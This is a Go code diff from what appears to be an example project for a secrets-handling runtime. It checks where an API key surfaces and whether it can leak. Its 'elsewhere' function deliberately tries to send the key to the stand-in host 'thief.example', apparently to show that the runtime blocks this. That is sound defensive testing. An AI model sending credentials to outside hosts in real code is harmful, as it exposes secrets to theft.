@@ -5,12 +5,14 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"net/http"
 	"net/http/httptrace"
 	"net/url"
 	"strings"
 
+	"github.com/mcpsecrets/mcpsecrets/examples/petstore/internal/api"
 	secrets "github.com/mcpsecrets/mcpsecrets/runtime"
 )
 
@@ -34,7 +36,8 @@ func (s *Store) sent(ctx context.Context) (map[string]string, error) {
 	if err != nil {
 		return nil, reason(err)
 	}
-	if err := decode(response, &struct{}{}); err != nil { // without the key, it would be 401
+	defer func() { _ = response.Body.Close() }()
+	if err := decode(response, &api.Pet{}); err != nil { // without the key, the store answers 401
 		return nil, err
 	}
 	return map[string]string{
@@ -44,10 +47,10 @@ func (s *Store) sent(ctx context.Context) (map[string]string, error) {
 		"headers, traced":  fmt.Sprint(traced),
 		"client, in fmt":   fmt.Sprintf("%+v", *s.withKey),
 		"to somebody else": s.elsewhere(ctx).Error(),
-	}, response.Body.Close()
+	}, nil
 }
 
-// elsewhere tries to send the key to another host than that of base_url.
+// elsewhere tries to send the key to another host than that of base_url, and returns why that does not work.
 func (s *Store) elsewhere(ctx context.Context) error {
 	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://thief.example/", nil)
 	if err != nil {
@@ -57,7 +60,8 @@ func (s *Store) elsewhere(ctx context.Context) error {
 	if err != nil {
 		return reason(err)
 	}
-	return fmt.Errorf("it was sent: %w", response.Body.Close())
+	_ = response.Body.Close()
+	return errors.New("it was sent")
 }
 
 // Written returns a key in the ways in which keys turn up in results. What arrives is masked.
